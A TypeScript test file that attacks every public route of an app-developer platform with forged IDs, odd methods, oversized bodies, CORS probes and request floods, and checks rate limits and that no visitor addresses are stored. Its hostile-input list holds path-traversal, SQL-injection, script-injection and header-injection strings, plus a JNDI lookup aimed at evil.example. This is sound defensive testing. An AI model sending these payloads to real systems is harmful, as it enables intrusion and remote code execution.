import { createHash } from 'node:crypto'
import { sql } from 'drizzle-orm'
import { Hono } from 'hono'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { calls as adCalls } from '@console-widgets/ads/contract'
import { calls as messageCalls } from '@console-widgets/app-messaging/contract'
import type { Plane, RouterEnvironment } from '@console-widgets/platform/calls/plane'
import { generalPlanes } from '@console-widgets/platform/general'
import { productPath } from '@console-widgets/platform/http/router'
import type { PlatformParts } from '@console-widgets/platform/calls/platform-parts'
import { hour } from '@console-widgets/platform/clock/durations'
import { rowsOf } from '@console-widgets/platform/database/connection'
import { keyOfConfigFile } from '@console-widgets/platform/tenancy/api-keys'
import {
  createTestPlatform,
  signIn,
  testOrigin,
  type TestPlatform,
} from '@console-widgets/sandbox/testing/test-platform'
import { calls as listingCalls } from '@console-widgets/store-listing/contract'
import { reportAddress } from '../../packages/services/app-check/platform/report-plane.ts'
import { allPackagesAddress } from '../../packages/services/channels/platform/all-packages.ts'
import { halves } from '../../packages/sandbox/src/services.generated.ts'
import { declaredCalls } from './support/declared-calls.ts'

/**
 * Every URL that the platform and its services answer without a session, attacked: methods, paths, queries, headers,
 * and bodies that no visitor would send, forged IDs, repeated requests, and a flood. New routes are attacked as soon as
 * they exist.
 */

/** A route of a plane or of the client plane. */
interface PublicRoute {
  area: string
  method: string
  path: string
  /** Whether it takes any file instead of a small text. */
  takesBytes?: boolean
}

/** Routes that a plane would register, without a platform. */
function routesOf(area: string, plane: Plane): PublicRoute[] {
  const app = new Hono<RouterEnvironment>()
  plane.routes(app, new Proxy({}, { get: () => undefined }) as PlatformParts)
  return app.routes.map(({ method, path }) => ({ area, method, path }))
}

const routes = [
  ...halves.flatMap(({ area, planes = [], clientRoutes = [] }) => [
    ...planes.flatMap((plane) => routesOf(area, plane)),
    ...clientRoutes.map(({ method, path, body }) => ({
      area,
      method,
      path: `/client/:apiKey${path}`,
      takesBytes: body === 'bytes',
    })),
  ]),
  ...generalPlanes.flatMap((plane) => routesOf('platform', plane)),
  ...declaredCalls
    .filter(({ call }) => call.auth === 'anonymous')
    .map(({ call }) => ({
      area: call.area,
      method: call.method,
      path: productPath + call.path.replace(/\{(\w+)\}/g, ':$1'),
    })),
]
const nameOf = ({ method, path }: Pick<PublicRoute, 'method' | 'path'>) => `${method} ${path}`

/** Files are read and written by rules and signed addresses, which have tests of their own. */
const filePaths = ['/storage/*', '/hosting/*', '/cfs/data/:objectId']
const attacked = routes.filter(({ path }) => !filePaths.includes(path))

/** Text of a request, which can name its visitor: some limits are those of one person. */
type OfVisitor = string | ((visitor: string) => string)
const ofVisitor = (text: OfVisitor, visitor: string) => (typeof text === 'string' ? text : text(visitor))

/** A request that a visitor could send, with which each attack begins. */
interface Usual {
  /** Values of the path's parameters; `*` for the rest of a path. */
  values: Readonly<Record<string, string>>
  query?: OfVisitor
  body?: OfVisitor
  type?: string
  /** Whether a stranger can only send what is refused, such as a password. */
  isForged?: boolean
  /** Parameter to forge. Default: the last one. */
  forged?: string
}

const appId = '108370001'
const json = (value: unknown) => ({ body: JSON.stringify(value), type: 'application/json' })
const form = (values: Record<string, string>) => ({
  body: new URLSearchParams(values).toString(),
  type: 'application/x-www-form-urlencoded',
})

let test: TestPlatform
let usual: Readonly<Record<string, Usual>>
beforeAll(async () => {
  test = await createTestPlatform({ demoTraffic: false, membersEditDemoProjects: true })
  usual = await usualRequests()
})
afterAll(() => test.close())

const rows = <Row>(query: ReturnType<typeof sql>) =>
  test.platform.services.database.asPlatform((db) => rowsOf<Row>(db, query))

async function usualRequests(): Promise<Record<string, Usual>> {
  const { services } = test.platform
  const holder = await signIn(test.platform)
  const [apiKey = ''] = await services.database.asPlatform(async (db) => [(await keyOfConfigFile(db, appId)) ?? ''])
  const [agreement] = await rows<{ document_id: string; lang: string }>(
    sql`select document_id, lang from cw_public_agreements limit 1`,
  )
  const [check] = await rows<{ team_id: string; task_id: string }>(
    sql`select team_id, check_id as task_id from cw_app_checks where status = 'passed' limit 1`,
  )
  const [pictured] = await rows<{ message_id: string; version: string }>(
    sql`select v.message_id, v.version::text from cw_message_versions v join cw_messages m using (message_id)
      where m.app_id = ${appId} and v.content ->> 'imageId' is not null order by 1, 2 limit 1`,
  )
  const [optOut] = await rows<{ opt_out_code: string }>(
    sql`select opt_out_code from cw_recall_sends where opt_out_code is not null order by 1 limit 1`,
  )
  const [listed] = await rows<{ version_id: string }>(
    sql`select version_id from cw_app_versions where app_id = ${appId} order by create_time desc limit 1`,
  )
  const page = await holder.invoke(listingCalls['store-listing.page.create'], {
    appId,
    versionId: listed?.version_id ?? '',
  })
  const round = await holder.invoke(adCalls['ads.account-authorization.create'], {
    accountName: 'Attacked',
    currency: 'EUR',
  })
  const state = new URL(round.consentAddress ?? '').searchParams.get('state') ?? ''
  const report = new URL(
    await reportAddress(
      services,
      { teamId: check?.team_id ?? '', taskId: check?.task_id ?? '', format: 'json', language: 'en' },
      services.clock.now(),
    ),
  )
  const [job] = await rows<{ team_id: string; app_id: string }>(
    sql`select team_id, app_id from cw_channel_jobs where job_id = 'channel-job-1'`,
  )
  const allPackages = new URL(
    await allPackagesAddress(
      services,
      { teamId: job?.team_id ?? '', appId: job?.app_id ?? '', jobId: 'channel-job-1' },
      services.clock.now(),
    ),
  )
  const shown = await holder.invoke(messageCalls['app-messaging.test-page.get'], { messageId: 'message-harbour' })
  const testPage = new URL(shown.address ?? '')
  const context = { context: { targetingKey: 'ada', country: 'DE' } }
  const questionnaire = { values: { publicId: 'northwindmapsquestionnaire' } }
  const [invited] = await rows<{ invitation_code: string }>(
    sql`select invitation_code from cw_public_invitation_codes where status = 1 order by 1 limit 1`,
  )
  const [news] = await rows<{ news_id: string }>(sql`select news_id from cw_public_news order by 1 limit 1`)
  const site = { state: 'x', redirect_uri: `${testOrigin}/` }
  const asked = `?${new URLSearchParams(site)}`
  const ofStranger = (values: Record<string, string>) => ({
    type: 'application/x-www-form-urlencoded',
    body: (visitor: string) =>
      new URLSearchParams({ ...site, account: `${visitor}@mail.example`, ...values }).toString(),
    isForged: true,
  })
  const call = (path: string) => `${productPath}${path}`
  return {
    'GET /account/sign-in': { values: {}, query: asked },
    'POST /account/sign-in': { values: {}, ...ofStranger({ password: 'not-the-password' }) },
    'GET /account/sign-up': { values: {}, query: asked },
    'POST /account/sign-up': { values: {}, ...ofStranger({ invitation: 'forged' }) },
    'POST /account/new-password': { values: {}, ...ofStranger({ ticket: 'forged', password: 'a', repeat: 'b' }) },
    'POST /webv1': {
      values: {},
      type: 'text/plain',
      body: JSON.stringify({ event: 'pageView', pageId: 'start', serviceItem: 4, domain: 'AGC' }),
    },
    [`POST ${call('/oauth2/v1/login')}`]: {
      values: {},
      ...json({ code: 'forged', state: 'x' }),
      isForged: true,
    },
    [`GET ${call('/amis/beta-manage/v1/open-test/:invitationCode')}`]: {
      values: { invitationCode: invited?.invitation_code ?? '' },
      query: '?language=en',
    },
    [`POST ${call('/amis/app-oauth-manage/v1/clients/verify')}`]: {
      values: {},
      ...json({ clientId: 'forged', clientSecret: 'forged', redirectUri: testOrigin }),
    },
    [`GET ${call('/questionnaires/v1/anonymous/:publicId')}`]: questionnaire,
    [`POST ${call('/questionnaires/v1/anonymous/feedback')}`]: {
      values: {},
      ...json({ token: 'forged', language: 'en', answers: { recommend: 3 } }),
    },
    [`GET ${call('/reports/v1/public-news')}`]: { values: {} },
    [`GET ${call('/reports/v1/public-news/:newsId')}`]: {
      values: { newsId: news?.news_id ?? '' },
      query: '?language=en-US',
    },
    [`POST ${call('/ups/user-permission-service/v1/invitation-link/find')}`]: {
      values: {},
      ...json({ invitationToken: 'forged' }),
    },
    'GET /l/:prefix/:suffix': { values: { prefix: 'northwind', suffix: 'wa7kHb' } },
    'GET /l/:prefix': { values: { prefix: 'northwind' }, query: '?d=forged&s=forged' },
    'GET /.well-known/assetlinks.json': { values: {} },
    'GET /l/:prefix/.well-known/assetlinks.json': { values: { prefix: 'northwind' } },
    'GET /.well-known/apple-app-site-association': { values: {} },
    'GET /l/:prefix/.well-known/apple-app-site-association': { values: { prefix: 'northwind' } },
    'GET /.well-known/applinking.json': { values: {} },
    'GET /l/:prefix/.well-known/applinking.json': { values: { prefix: 'northwind' } },
    'GET /:suffix': { values: { suffix: 'wa7kHb' } },
    'GET /l/h/:code': { values: { code: 'hQ7mK2vXr9Tp' } },
    'GET /q/:publicId': questionnaire,
    'POST /q/:publicId': { ...questionnaire, ...form({ token: 'forged', 'q.recommend': '3', go: 'next' }) },
    'GET /o/:code': { values: { code: optOut?.opt_out_code ?? '' } },
    'POST /o/:code': { values: { code: optOut?.opt_out_code ?? '' }, ...form({}) },
    'GET /channel-packages/:jobId': { values: { jobId: 'channel-job-1' }, query: allPackages.search },
    'GET /m/:id': { values: { id: 'northwind-blog' } },
    'GET /m/:id/pixel.gif': { values: { id: 'northwind-blog' } },
    'GET /ad-network/consent': { values: {}, query: `?state=${state}` },
    'POST /ad-network/consent': { values: {}, ...form({ state: '0'.repeat(50), decision: 'allow' }) },
    'GET /ad-network/callback': { values: {}, query: `?state=${state}&code=${'0'.repeat(50)}` },
    'GET /agreement/*': { values: { '*': `${agreement?.document_id}/${agreement?.lang}` } },
    'GET /app-check/reports/:taskId': { values: { taskId: check?.task_id ?? '' }, query: report.search },
    'GET /listing-previews/:name': { values: { name: new URL(page.address).pathname.split('/').at(-1) ?? '' } },
    'GET /store/:appId': { values: { appId } },
    'POST /store/:appId/install': { values: { appId }, ...form({}) },
    'POST /client/:apiKey/consents': {
      values: { apiKey },
      ...json({
        documentId: agreement?.document_id,
        lang: agreement?.lang,
        version: 1,
        subject: 'ada',
        given: true,
      }),
    },
    'POST /client/:apiKey/messages': { values: { apiKey }, ...json({ personId: 'ada', country: 'DE' }) },
    'POST /client/:apiKey/messages/:messageId/events': {
      values: { apiKey, messageId: 'message-harbour' },
      ...json({ events: [{ eventId: 'once', personId: 'ada', kind: 'impression', version: 2 }] }),
    },
    'GET /client/:apiKey/messages/preview': { values: { apiKey }, query: testPage.search },
    'GET /client/:apiKey/messages/preview/image': { values: { apiKey }, query: testPage.search },
    'GET /client/:apiKey/messages/:messageId/:version/image': {
      values: { apiKey, messageId: pictured?.message_id ?? 'none', version: pictured?.version ?? '1' },
      forged: 'messageId',
    },
    'GET /client/:apiKey/ability-intents': { values: { apiKey } },
    'POST /client/:apiKey/feedback': {
      values: { apiKey },
      type: 'application/json',
      body: (personId) =>
        JSON.stringify({ personId, star: 2, content: 'It closes.', category: 'crash', language: 'en' }),
    },
    'POST /client/:apiKey/feedback/attachments': {
      values: { apiKey },
      query: (visitor) => `?personId=${visitor}&fileName=app.log`,
      body: 'a line of a log',
    },
    'POST /client/:apiKey/events': {
      values: { apiKey },
      ...json([{ eventId: 'once', personId: 'ada', name: 'active', time: test.clock.now(), version: '1.0.0' }]),
    },
    'POST /client/:apiKey/links/first-open': { values: { apiKey }, ...json({ referrer: 'forged', openId: 'ada' }) },
    'POST /client/:apiKey/ads/clicks': { values: { apiKey }, ...json({ personId: 'ada', clickId: 'demo-hit-3' }) },
    'POST /client/:apiKey/config/ofrep/v1/evaluate/flags': { values: { apiKey }, ...json(context) },
    'POST /client/:apiKey/config/ofrep/v1/evaluate/flags/:key': {
      values: { apiKey, key: 'offline_maps' },
      ...json(context),
    },
  }
}

const chrome =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36'

/** Networks of the attackers, each with one request, so that no limit hides what the route itself does. */
let networks = 0
const newNetwork = () => {
  const at = ++networks
  return at % 2 === 0 ? `203.0.${at >> 8}.${at & 255}` : `2001:db8:77aa:${at.toString(16)}::77`
}

interface Sending extends Partial<Usual> {
  method?: string
  headers?: Record<string, string>
  address?: string
  visitor?: string
}

/** Sends the usual request of a route with a change. */
async function send(route: PublicRoute, change: Sending = {}) {
  const {
    values,
    query = '',
    body,
    type,
    method = route.method,
    headers,
    address,
    visitor = 'ada',
  } = {
    ...usual[nameOf(route)],
    ...change,
  }
  const path = route.path.replace(/:\w+|\*/g, (name) => {
    const value = values?.[name.replace(':', '')] ?? ''
    return name === '*' ? value : encodeURIComponent(value.toWellFormed())
  })
  const hasBody = !['GET', 'HEAD', 'OPTIONS'].includes(method)
  const request = new Request(`${testOrigin}${path}${ofVisitor(query, visitor)}`, {
    method,
    headers: { 'user-agent': chrome, ...(hasBody && type ? { 'content-type': type } : {}), ...headers },
    ...(hasBody ? { body: ofVisitor(body ?? '', visitor) } : {}),
  })
  const answer = await test.platform.fetch(request, { address: address ?? newNetwork() })
  const text = await answer.text()
  const told = `${nameOf(route)} ${JSON.stringify(change).slice(0, 300)}: ${answer.status} ${text.slice(0, 200)}`
  // Thousands of requests: an assertion for each takes as much CPU time as some answers.
  if (answer.status >= 500) expect.fail(told)
  if (answer.headers.get('content-type')?.includes('text/html') && text.includes('<script>alert')) expect.fail(told)
  return { status: answer.status, headers: answer.headers, text, told }
}

const hostile = [
  '\0',
  '../../etc/passwd',
  '..',
  '%2e%2e%2f',
  '%',
  '__proto__',
  'constructor',
  "' or 1=1 --",
  '"><script>alert(1)</script>',
  '<script>alert(1)</script>',
  '\r\nset-cookie: a=b',
  '\ud83d',
  '\u202egnp.exe',
  'ж'.repeat(3000),
  '9'.repeat(400),
  '-1',
  '1e999',
  '[object Object]',
  '$' + '{jndi:ldap://evil.example/a}',
]
const inQuery = (value: string) => encodeURIComponent(value.toWellFormed())

it('has a usual request for every public route', () => {
  expect(Object.keys(usual).toSorted()).toEqual(attacked.map(nameOf).toSorted())
})

describe.each(attacked.map((route): [string, PublicRoute] => [nameOf(route), route]))('%s', (_, route) => {
  it('answers a visitor', async () => {
    const { status, told } = await send(route)
    // Those whose usual request can’t be made here say so as a page or an error.
    const { isForged = false } = usual[nameOf(route)] as Usual
    expect(isForged ? [400, 401, 404, 410] : [200, 201, 204, 302, 303, 404, 409, 410], told).toContain(status)
  })

  it('finds nothing by forged IDs', async () => {
    const { values, forged = Object.keys(values).at(-1) } = usual[nameOf(route)] as Usual
    if (forged === undefined) return
    const real = values[forged] ?? ''
    for (const value of [`${real.slice(0, -1)}0x`, `${real}x`, `x${real}`, real.toUpperCase() + '_', ...hostile]) {
      const { status, told } = await send(route, { values: { ...values, [forged]: value } })
      expect(status, told).toBeGreaterThanOrEqual(300)
    }
  })

  it('answers any method, query, and header', async () => {
    for (const method of ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND'])
      if (method !== route.method) await send(route, { method })
    const query = ofVisitor((usual[nameOf(route)] as Usual).query ?? '', 'ada')
    const names = ['lang', 'page', 'preview', 'state', 'code', 'd', 's', 'sent', 'link', 'utm_source', '__proto__[a]']
    for (const value of hostile) {
      const added = names.map((name) => `${name}=${inQuery(value)}`).join('&')
      await send(route, { query: `?${added}` })
      await send(route, { query: `${query}${query === '' ? '?' : '&'}${added}` })
    }
    await send(route, { query: `?${'a=1&'.repeat(5000)}` })
    const headers = [
      'accept-language',
      'user-agent',
      'referer',
      'cookie',
      'if-none-match',
      'range',
      'x-forwarded-for',
      'sec-purpose',
      'sec-ch-ua-platform',
      'authorization',
      'agcteamid',
    ]
    for (const value of [
      '',
      'x'.repeat(8000),
      '"><script>alert(1)</script>',
      '*;q=-1,,;',
      'cw_q=%00; cw_store=.; a',
      '\xff',
    ])
      for (const name of headers) await send(route, { headers: { [name]: value } })
  })

  it('lets no other page read or act with a session', async () => {
    for (const origin of ['https://evil.example', 'null', `${testOrigin}.evil.example`])
      for (const method of [route.method, 'OPTIONS']) {
        const { headers } = await send(route, {
          method,
          headers: { origin, 'access-control-request-method': route.method, cookie: 'authInfo=x; csrfToken=y' },
        })
        const allowed = headers.get('access-control-allow-origin')
        if (allowed === origin) expect(origin).toBe('never')
        if (allowed === '*') expect(headers.get('access-control-allow-credentials')).toBeNull()
      }
  })

  it('shows pages without scripts, in no frame', async () => {
    const { headers, text } = await send(route)
    if (!headers.get('content-type')?.includes('text/html')) return
    const policy = headers.get('content-security-policy') ?? ''
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(headers.get('x-content-type-options')).toBe('nosniff')
    if (!/script-src 'sha256-/.test(policy)) expect(text).not.toContain('<script')
  })

  it('answers any body, and none that is too large', async () => {
    if (route.method === 'GET') return
    const bodies = ['', 'a', '\0', '{', 'null', '[]', '{"a":{"__proto__":{"x":1}}}', '%ff=%zz&&==', '='.repeat(9000)]
    const types = [
      'application/json',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=',
      'text/plain',
      '',
    ]
    for (const body of [...bodies, ...hostile.map((value) => `token=${inQuery(value)}&state=${inQuery(value)}`)])
      for (const type of types) await send(route, { body, type })
    const large = 'x'.repeat(3_000_000)
    for (const type of types) {
      const { status, told } = await send(route, { body: `a=${large}`, type })
      // A file of that size is accepted, until its sender has sent too many.
      const ofFiles = route.takesBytes ? [201, 429] : []
      expect([303, 400, 404, 409, 410, 413, 415, ...ofFiles], told).toContain(status)
    }
  })

  it('answers the same request again and again', async () => {
    const address = newNetwork()
    const first = await send(route, { address })
    const again = await send(route, { address })
    expect([first.status, 200, 429], again.told).toContain(again.status)
  })
})

it('keeps no trace of a visitor’s address, and that of a failed sign-in for its window alone', async () => {
  test.clock.advance(hour)
  // The next attempt removes those before.
  await send({ area: 'platform', method: 'POST', path: '/account/sign-in' }, { address: '198.51.100.7' })
  for (const half of halves) await half.flush?.(test.platform.services)
  const tables = await rows<{ name: string }>(
    sql`select table_name as name from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'`,
  )
  const traces = ['203.0.', '2001:db8:77aa'].flatMap((text) => [
    text,
    Buffer.from(text).toString('base64').slice(0, -2),
  ])
  const last = networks % 2 === 0 ? networks : networks - 1
  const address = `203.0.${last >> 8}.${last & 255}`
  for (const method of ['md5', 'sha1', 'sha256'])
    for (const form of ['hex', 'base64'] as const)
      traces.push(createHash(method).update(address).digest(form).slice(0, 20))
  let written = 0
  for (const { name } of tables.filter((table) => !table.name.startsWith('cw_report_'))) {
    const found = await rows<{ text: string }>(sql`select t::text as text from ${sql.identifier(name)} t`)
    written += found.length
    for (const { text } of found)
      for (const trace of traces) expect(text.includes(trace), `${name}: ${text}`).toBe(false)
  }
  expect(written).toBeGreaterThan(1000)
})

/** Requests of a flood: more than any network may have stored in a moment. */
const flood = 300

describe('a flood', () => {
  it.each(attacked.map((route): [string, PublicRoute] => [nameOf(route), route]))(
    'of %s from one network stores little, and keeps no one else from it',
    async (_, route) => {
      const countRows = async () => {
        for (const half of halves) await half.flush?.(test.platform.services)
        const [row] = await rows<{ count: number }>(
          sql`select sum((xpath('/row/c/text()', query_to_xml(format('select count(*) as c from %I', table_name), false, true, '')))[1]::text::int)::int as count
            from information_schema.tables where table_schema = 'public' and table_type = 'BASE TABLE'`,
        )
        return row?.count ?? 0
      }
      test.clock.advance(3_600_000)
      const before = await countRows()
      const other = await send(route, { visitor: 'first' })
      const statuses = new Map<number, number>()
      for (let at = 0; at < flood; at++) {
        // Someone who has a whole network has as many addresses as they like.
        const { headers, status, told } = await send(route, { address: `2001:db8:77aa:ffff::${at.toString(16)}` })
        statuses.set(status, (statuses.get(status) ?? 0) + 1)
        if (status === 429) expect(Number(headers.get('retry-after')), told).toBeGreaterThan(0)
      }
      const told = JSON.stringify([...statuses])
      expect((await countRows()) - before, told).toBeLessThan(0.9 * flood)
      expect((await send(route, { visitor: 'last' })).status, told).toBe(other.status)
    },
  )
})
